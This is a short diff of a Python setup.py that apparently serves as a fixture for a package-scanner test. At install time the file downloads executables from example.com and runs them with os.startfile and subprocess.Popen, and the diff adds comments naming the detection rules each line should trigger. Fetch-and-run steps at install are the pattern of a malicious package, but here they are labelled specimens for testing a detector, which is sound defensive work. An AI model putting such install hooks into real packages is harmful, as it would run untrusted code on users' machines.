@@ -8,14 +8,14 @@ import requests
 from setuptools import setup
 
 path = os.path.join(os.environ["TEMP"], "specimen.exe")
-urllib.request.urlretrieve("https://example.com/specimen.exe", path)
-os.startfile(path)  # match: written-file-run
+urllib.request.urlretrieve("https://example.com/specimen.exe", path)  # match: network-at-install
+os.startfile(path)  # match: written-file-run  # match: process-at-install
 
 with open("helper.bin", "wb") as f:
-    f.write(requests.get("https://example.com/helper").content)
-subprocess.Popen(["./helper.bin"])  # match: written-file-run
+    f.write(requests.get("https://example.com/helper").content)  # match: network-at-install
+subprocess.Popen(["./helper.bin"])  # match: written-file-run  # match: process-at-install
 
 with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:
     t.write(b"print('a specimen, and nothing but a specimen')")
-subprocess.Popen([sys.executable, t.name])  # match: written-file-run
+subprocess.Popen([sys.executable, t.name])  # match: written-file-run  # match: process-at-install
 setup(name="specimen")
